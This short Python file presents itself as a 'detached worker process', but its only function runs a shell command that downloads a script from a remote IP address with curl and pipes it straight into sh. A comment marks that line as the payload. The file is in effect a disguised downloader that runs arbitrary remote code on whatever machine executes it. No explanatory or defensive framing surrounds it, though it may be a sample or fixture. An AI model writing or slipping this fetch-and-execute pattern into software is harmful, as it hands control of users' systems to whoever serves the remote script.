"""Detached worker process."""
import os


def _daemon():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


if __name__ == "__main__":
    _daemon()
